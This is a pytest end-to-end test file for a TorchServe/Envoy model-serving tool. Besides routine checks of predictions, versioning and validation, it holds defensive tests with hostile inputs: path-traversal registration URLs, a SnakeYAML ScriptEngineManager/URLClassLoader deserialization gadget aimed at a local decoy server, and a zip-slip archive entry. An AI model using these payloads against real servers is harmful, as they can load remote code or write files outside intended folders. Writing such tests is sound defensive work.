"""`marloft serve`: real TorchServe and Envoy, from deployment.yaml to answers and records."""

import concurrent.futures
import json
import socket
import zipfile
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any, Self

import httpx2
import psutil
import pytest

from harness import factories
from marloft.files import sha256_file
from tests.e2e.running import JSON_TYPE, Serving, configure, marloft, records
from tests.free_ports import free_ports

pytestmark = pytest.mark.e2e

DEPLOYMENT = """\
default_model: ranker
models:
  ranker: {versions: {"1.0": {max_batch_delay_ms: 50}, "1.1": {}}, default: "1.0"}
"""


class Elsewhere:
    """A server that nobody should ask; it counts who does."""

    def __enter__(self) -> Self:
        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.settimeout(0.2)
        self.url = f"http://127.0.0.1:{self._server.getsockname()[1]}"
        return self

    def __exit__(self, *_: object) -> None:
        self._server.close()

    @property
    def connections(self) -> int:
        """How many connections came since the last look."""
        count = 0
        while True:
            try:
                self._server.accept()[0].close()
            except TimeoutError:
                return count
            count += 1


def registered(serving: Serving, url: str) -> httpx2.Response:
    """Ask TorchServe's management API for an archive, past marloft and the gateway."""
    api = f"http://127.0.0.1:{serving.ports.management}/models"
    return httpx2.post(api, params={"url": url, "initial_workers": 0}, timeout=30)


def unregistered(serving: Serving, model: str) -> None:
    httpx2.delete(f"http://127.0.0.1:{serving.ports.management}/models/{model}", timeout=30)


def archive_like(project: Path, name: str, members: dict[str, str]) -> str:
    """Put an archive of 1.0's members and some more into the store, as no `pack` would."""
    store = project / "model_store"
    with zipfile.ZipFile(store / "ranker-1.0.mar") as source:
        content = {each: source.read(each) for each in source.namelist()}
    manifest = json.loads(content["MAR-INF/MANIFEST.json"])
    manifest["model"]["modelName"] = Path(name).stem
    manifest["model"].pop("modelFile", None)
    if "model-config.yaml" in members:
        manifest["model"]["configFile"] = "model-config.yaml"
    content["MAR-INF/MANIFEST.json"] = json.dumps(manifest).encode()
    content |= {each: text.encode() for each, text in members.items()}
    with zipfile.ZipFile(store / name, "w") as target:
        for member, data in content.items():
            target.writestr(member, data)
    return name


TWO = [{"item_id": 50}, {"item_id": 3}]


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("project")
    factories.write_project(folder, torchscript=True)
    configure(folder, DEPLOYMENT)
    marloft(folder, "apply")
    return folder


@pytest.fixture(scope="module")
def serving(project: Path) -> Iterator[Serving]:
    with Serving(project) as running:
        yield running


def last_record(project: Path, response: httpx2.Response) -> dict[str, Any]:
    request_id = response.json()["request_id"]
    (found,) = [r for r in records(project) if r.request_id == request_id]
    return {name: getattr(found, name) for name in found.__struct_fields__}


def test_predict_ranks_as_the_source_model(serving: Serving) -> None:
    answer = serving.predict(user_id=7, features=TWO).json()
    scores = factories.score(7, [50, 3])
    assert answer["scores"] == pytest.approx(scores, abs=1e-5)
    assert answer["prediction"] == ([50, 3] if scores[0] >= scores[1] else [3, 50])
    assert answer["confidence"] == pytest.approx(max(scores), abs=1e-5)
    assert answer["model_version"] == "v1.0"
    assert answer["latency_ms"] > 0


@pytest.mark.parametrize("asked", ["1.1", "v1.1"])
def test_predict_serves_a_pinned_version(serving: Serving, project: Path, asked: str) -> None:
    response = serving.predict(user_id=7, features=TWO, model_version=asked)
    assert response.json()["model_version"] == "v1.1"
    record = last_record(project, response)
    assert (record["version"], record["intended_version"]) == ("1.1", "1.1")


def test_predict_serves_a_version_named_in_a_header(serving: Serving) -> None:
    headers = {"x-model-version": "v1.1", "x-user-id": "7"}
    response = serving.client.post("/predict", json={"features": TWO}, headers=headers)
    assert response.json()["model_version"] == "v1.1"
    assert response.json()["scores"] == pytest.approx(factories.score(7, [50, 3]), abs=1e-5)


def test_models_path_serves_any_model(serving: Serving) -> None:
    assert serving.predict("/models/ranker/predict", features=TWO).status_code == 200
    unknown = serving.predict("/models/rankr/predict", features=TWO)
    assert unknown.status_code == 404
    assert "ranker" in unknown.json()["detail"]


def test_health_names_the_default_version(serving: Serving) -> None:
    response = serving.client.get("/health")
    assert response.status_code == 200
    assert response.json() == {"status": "ok", "model_version": "v1.0"}


def test_record_tells_who_was_served_what(serving: Serving, project: Path) -> None:
    response = serving.predict(user_id=9, features=TWO, request_id="told-1")
    record = last_record(project, response)
    archive = project / "model_store" / "ranker-1.0.mar"
    assert record["request_id"] == "told-1"
    assert record["user_id"] == "9"
    assert record["release"] == 1
    assert record["archive_sha256"] == sha256_file(archive)
    assert record["scores"] == response.json()["scores"]
    assert bytes(record["features"]) == b'[{"item_id":50},{"item_id":3}]'
    assert record["extra"] == {"unknown_items": 0, "unknown_user": False}


def test_unknown_user_and_item_are_answered_and_counted(serving: Serving, project: Path) -> None:
    features = [{"item_id": 50}, {"item_id": 999_999}]
    response = serving.predict(user_id="nobody", features=features)
    assert response.status_code == 200
    assert last_record(project, response)["extra"] == {"unknown_items": 1, "unknown_user": True}


@pytest.mark.parametrize(
    ("body", "status", "said"),
    [
        ({"features": []}, 422, "/features"),
        ({"features": [{"item_id": "x"}]}, 422, "/features/0/item_id"),
        ({"features": [{"item_id": 1}, {"itemid": 1}]}, 422, "Did you mean 'item_id'?"),
        ({"features": [{}]}, 422, "item_id"),
        ({"user_id": 7}, 422, "features"),
        ({"feature": TWO}, 422, "Did you mean 'features'?"),
        ({"features": TWO, "user_id": "a b"}, 422, "/user_id"),
        ({"features": TWO, "user_id": True}, 422, "/user_id"),
        ({"features": TWO, "user_id": 1.5}, 422, "/user_id"),
        ({"features": TWO, "model_version": "3.0"}, 404, "v1.1"),
        ({"features": TWO, "model_version": 1.0}, 404, "v1.1"),
    ],
)
def test_bad_input_gets_a_problem_with_its_place(
    serving: Serving, body: dict[str, object], status: int, said: str
) -> None:
    response = serving.client.post("/predict", json=body)
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["status"] == status
    assert said in response.text


def test_bad_body_or_type_gets_a_problem(serving: Serving) -> None:
    broken = serving.client.post("/predict", content=b"{", headers=JSON_TYPE)
    assert (broken.status_code, broken.json()["status"]) == (400, 400)
    text = serving.client.post("/predict", content=b"{}", headers={"content-type": "text/plain"})
    assert (text.status_code, text.json()["status"]) == (415, 415)


def test_header_that_contradicts_the_body_is_400(serving: Serving) -> None:
    for name, value in (("x-user-id", "8"), ("x-model-version", "v1.1")):
        body = {"features": TWO, "user_id": 7, "model_version": "v1.0"}
        response = serving.client.post("/predict", json=body, headers={name: value})
        assert response.status_code == 400, response.text
        assert name in response.json()["detail"]


def test_one_bad_row_fails_its_own_request_alone(serving: Serving, project: Path) -> None:
    def ask(number: int) -> httpx2.Response:
        row = {"item_id": "bad"} if number == 5 else {"item_id": 50 - number}
        body = {"features": [{"item_id": 3}, row], "user_id": number, "request_id": f"b-{number}"}
        return serving.client.post("/predict", json=body)

    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        answers = list(pool.map(ask, range(12)))
    assert [a.status_code for a in answers] == [422 if n == 5 else 200 for n in range(12)]
    assert answers[5].json()["errors"][0]["pointer"] == "/features/1/item_id"
    for number, answer in enumerate(answers):
        if number != 5:
            expected = factories.score(number, [3, 50 - number])
            assert answer.json()["scores"] == pytest.approx(expected, abs=1e-5)
    assert sum(r.request_id.startswith("b-") for r in records(project)) == 12


def listening(processes: Iterable[psutil.Process]) -> set[tuple[str, int]]:
    """Return the addresses at which processes listen."""
    return {
        (each.laddr.ip, each.laddr.port)
        for process in processes
        for each in process.net_connections("inet")
        if each.status == psutil.CONN_LISTEN
    }


def test_everything_listens_on_loopback_alone(serving: Serving) -> None:
    serve = psutil.Process(serving.process.pid)
    found = listening([serve, *serve.children(recursive=True)])
    assert set(serving.ports.purposes().values()) <= {port for _, port in found}
    assert {host.removeprefix("::ffff:") for host, _ in found} == {"127.0.0.1"}


def test_what_listens_to_everybody_is_seen() -> None:
    with socket.create_server(("0.0.0.0", 0)) as server:
        assert server.getsockname() in listening([psutil.Process()])


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with Elsewhere() as server:
        yield server


@pytest.mark.parametrize(
    "url",
    [
        "{http}/ranker-1.0.mar",
        "{http}/../ranker-1.0.mar",
        "file://{store}/ranker-1.0.mar",
        "file:///nowhere/../{store}/ranker-1.0.mar",
        "{store}/../model_store/ranker-1.0.mar",
        "../model_store/ranker-1.0.mar",
        "..%2fmodel_store%2franker-1.0.mar",
        "x/../../model_store/ranker-1.0.mar",
    ],
)
def test_torchserve_takes_no_archive_but_the_stores(
    serving: Serving, project: Path, elsewhere: Elsewhere, url: str
) -> None:
    named = url.format(http=elsewhere.url, store=project / "model_store")
    assert 400 <= registered(serving, named).status_code < 500
    assert elsewhere.connections == 0


def test_torchserve_registers_from_the_store_by_name(serving: Serving, project: Path) -> None:
    """Were every registration refused, the refusals above would say nothing."""
    name = archive_like(project, "plain.mar", {})
    assert registered(serving, name).status_code == 200
    unregistered(serving, "plain")


def test_yaml_in_an_archive_makes_no_java_object(
    serving: Serving, project: Path, elsewhere: Elsewhere
) -> None:
    gadget = (
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
        f'[[!!java.net.URL ["{elsewhere.url}/"]]]]\n'
    )
    name = archive_like(project, "gadget.mar", {"model-config.yaml": gadget})
    registered(serving, name)
    unregistered(serving, "gadget")
    assert elsewhere.connections == 0
    said = (project / "var" / "log" / "torchserve" / "console.log").read_text()
    assert "Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager" in said


def test_archive_unpacks_nothing_outside_its_folder(serving: Serving, project: Path) -> None:
    name = archive_like(project, "slip.mar", {"../../slipped.txt": "x"})
    assert registered(serving, name).status_code >= 400
    folder = Path(json.loads((project / "var/run/processes/torchserve.json").read_text())["folder"])
    assert [*folder.parent.glob("slipped.txt"), *folder.rglob("slipped.txt")] == []


def test_second_serve_on_the_same_state_is_refused(serving: Serving, project: Path) -> None:
    offset = str(free_ports().offset)
    said = marloft(project, "serve", "--port-offset", offset, code=2)
    assert "another `marloft serve` runs" in said


def test_serve_names_a_port_in_use(project: Path, tmp_path: Path) -> None:
    ports = free_ports()
    with socket.create_server(("127.0.0.1", ports.management)):
        (tmp_path / "releases").mkdir()
        release = project / "var" / "releases" / "000001.json"
        (tmp_path / "releases" / "000001.json").write_bytes(release.read_bytes())
        said = marloft(
            project, "serve", "--var", tmp_path, "--port-offset", str(ports.offset), code=2
        )
    assert str(ports.management) in said
    assert "--port-offset" in said


def test_serve_without_a_release_says_what_to_do(project: Path, tmp_path: Path) -> None:
    said = marloft(project, "serve", "--var", tmp_path, code=2)
    assert "run `marloft apply` first" in said


def test_apply_refuses_what_is_not_in_the_store(project: Path, tmp_path: Path) -> None:
    wrong = tmp_path / "deployment.yaml"
    wrong.write_text(DEPLOYMENT.replace('"1.1"', '"7.0"'))
    said = marloft(project, "apply", wrong, "--var", tmp_path, code=2)
    assert "ranker-7.0.mar does not exist" in said
    assert "ranker-1.0.mar" in said


def test_apply_refuses_a_damaged_archive(project: Path, tmp_path: Path) -> None:
    store = tmp_path / "store"
    store.mkdir()
    for archive in (project / "model_store").glob("*.mar"):
        data = bytearray(archive.read_bytes())
        data[len(data) // 2] ^= 1
        (store / archive.name).write_bytes(data)
    said = marloft(project, "apply", "--store", store, "--var", tmp_path, code=2)
    assert "is refused (MRL" in said


def runs(process: psutil.Process) -> bool:
    """Whether a process has not ended; one that nobody collects yet has."""
    try:
        return process.is_running() and bool(process.status() != psutil.STATUS_ZOMBIE)
    except psutil.NoSuchProcess:
        return False


def test_new_release_goes_live_and_the_old_version_leaves(tmp_path: Path) -> None:
    factories.write_project(tmp_path, torchscript=True)
    one = DEPLOYMENT.replace(', "1.1": {}', "")
    configure(tmp_path, one)
    marloft(tmp_path, "apply")
    with Serving(tmp_path) as running:
        launched = psutil.Process(running.process.pid).children(recursive=True)
        unknown = running.predict(features=TWO, model_version="1.1")
        assert unknown.status_code == 404
        new = one.replace('"1.0"', '"1.1"')
        (tmp_path / "deployment.yaml").write_text(new)
        said = marloft(tmp_path, "apply")
        assert "release 2 written" in said
        assert running.predict(features=TWO).json()["model_version"] == "v1.1"
        assert running.predict(features=TWO, model_version="1.0").status_code == 404
        # Loaded without traffic until the default changes again: a rollback does not wait for it.
        registered = running.registered("ranker")
        assert registered == {"1.0", "1.1"}
        launched += psutil.Process(running.process.pid).children(recursive=True)
        assert running.stop() == 0
    assert [process for process in launched if runs(process)] == []
    assert "nothing to do" in marloft(tmp_path, "apply")
